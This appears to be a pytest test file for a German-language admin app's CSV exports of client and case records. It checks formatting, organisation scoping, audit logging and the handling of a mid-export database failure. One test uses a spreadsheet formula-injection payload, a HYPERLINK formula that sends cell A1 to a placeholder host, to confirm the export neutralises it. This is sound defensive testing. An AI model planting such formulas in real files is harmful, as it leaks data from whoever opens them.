"""List exports: German Excel CSV, scoped like the list, streamed, audited."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select
from sqlalchemy.exc import OperationalError

import admin_views.export
from models import Organisation, User
from models.audit import AuditEvent
from tests.factories import CONSENT_GIVEN_ON, make_client


def read_as_german_excel(response):
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM missing"
    text = raw.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_client_export_is_german_excel_csv_with_only_own_rows(client, auth, world):
    auth.login(world.a.case_manager_email)
    response = client.get("/admin/clients/export/csv/")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "klienten_awo_" in disposition
    assert response.headers["Cache-Control"] == "no-store"
    header, *rows = read_as_german_excel(response)
    assert header[:3] == ["Aktenzeichen", "Vorname", "Nachname"]
    assert [row[2] for row in rows] == [world.a.client_name]
    assert world.b.client_name not in response.get_data(as_text=True)


def test_export_shows_labels_german_dates_and_neutralises_formulas(client, auth, world, session):
    organisation = session.get(Organisation, world.a.organisation_id)
    author = session.execute(
        select(User).where(User.email == world.a.case_manager_email)
    ).scalar_one()
    make_client(
        session,
        organisation,
        author,
        first_name='=HYPERLINK("http://x/?"&A1,"x")',
        last_name="Müller; mit\nZeilenumbruch",
        residence_status="toleration",
        needs_interpreter=True,
        phone="+49 211 1234567",
    )
    session.commit()
    auth.login(world.a.case_manager_email)
    header, *rows = read_as_german_excel(client.get("/admin/clients/export/csv/?search=Müller"))
    (row,) = rows
    cells = dict(zip(header, row, strict=True))
    assert cells["Vorname"] == '\'=HYPERLINK("http://x/?"&A1,"x")'
    assert cells["Nachname"] == "Müller; mit\nZeilenumbruch"
    assert cells["Aufenthaltsstatus"] == "Duldung"
    assert cells["Sprachmittlung nötig"] == "ja"
    assert cells["Einwilligung erteilt am"] == f"{CONSENT_GIVEN_ON:%d.%m.%Y}"
    assert cells["Telefon"] == "'+49 211 1234567"


def test_export_honours_search_and_stays_scoped_with_forged_parameters(client, auth, world):
    auth.login(world.a.case_manager_email)
    found = read_as_german_excel(
        client.get(f"/admin/clients/export/csv/?search={world.b.client_name}")
    )
    assert found[1:] == []


def test_every_export_writes_one_audit_event_without_the_search_text(client, auth, world, session):
    auth.login(world.a.case_manager_email)
    client.get(f"/admin/clients/export/csv/?search={world.a.client_name}").get_data()
    (event,) = session.execute(select(AuditEvent).where(AuditEvent.action == "export")).scalars()
    assert event.organisation_id == world.a.organisation_id
    assert event.record_type == "Client"
    assert '"rows": 1' in event.details
    assert world.a.client_name not in event.details


def test_case_export_lists_topics_by_name(client, auth, world):
    auth.login(world.a.case_manager_email)
    header, *rows = read_as_german_excel(client.get("/admin/cases/export/csv/"))
    cells = dict(zip(header, rows[0], strict=True))
    assert cells["Handlungsfelder"] == "Arbeit und Beruf"
    assert cells["Klient*in"].startswith(f"{world.a.client_name}, Amina")


def test_a_database_error_mid_export_breaks_the_download_instead_of_truncating_it(
    client, auth, world, monkeypatch
):
    # The client export reads plain columns: each cell through ``column_formatter``.
    original = admin_views.export.column_formatter

    def failing_reader(view, name):
        read = original(view, name)
        if name != "notes":
            return read

        def read_or_fail(record):
            raise OperationalError("SELECT …", {}, Exception("connection lost"))

        return read_or_fail

    monkeypatch.setattr(admin_views.export, "column_formatter", failing_reader)
    auth.login(world.a.case_manager_email)
    response = client.get("/admin/clients/export/csv/")
    assert response.status_code == 200  # the header was sent before the first row
    with pytest.raises(OperationalError):
        response.get_data()  # the body never completes: no file that looks whole
